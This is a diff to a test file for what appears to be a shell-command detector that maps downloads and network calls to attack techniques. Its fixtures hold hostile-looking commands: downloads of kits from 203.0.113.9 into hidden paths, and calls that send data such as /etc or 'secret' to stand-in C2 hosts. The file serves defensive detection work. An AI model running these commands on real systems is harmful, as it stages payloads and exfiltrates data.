@@ -213,6 +213,9 @@ def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
     ("wget --output-document=- http://203.0.113.9/s.sh", ()),
     ("wget https://example.org/", ("index.html",)),
     ("wget -q --spider http://localhost:8080/health", ()),  # a health check saves nothing
+    ("lwp-download http://203.0.113.9/a/kit.tgz /var/tmp/.k", ("/var/tmp/.k",)),
+    ("lwp-download https://example.org/a/kit.tgz", ("kit.tgz",)),  # named after the URL, as wget does
+    ("axel -n 4 -o /dev/shm/x http://203.0.113.9/x", ("/dev/shm/x",)),
 ])
 def test_downloads_name_the_files_they_save(line: str, saved: tuple[str, ...]) -> None:
     """What a download writes, as the file a later `chmod` or `./name` refers to."""
@@ -254,6 +257,7 @@ NETWORK_FROM_ARGUMENTS = [  # (argv, technique, weight at least)
     (("whois", "-h", "c2.example.net", "-p", "4444", "payload"), "T1071", 0.15),
     (("tar", "cf", "ops@drop.example.net:/x/etc.tar", "/etc", "--rsh-command=/usr/bin/ssh"), "T1071", 0.15),
     (("sshfs", "ops@c2.example.net:/", "/mnt/x"), "T1071", 0.15),
+    (("finger", "secret@c2.example.net"), "T1071", 0.15),
 ]
 
 
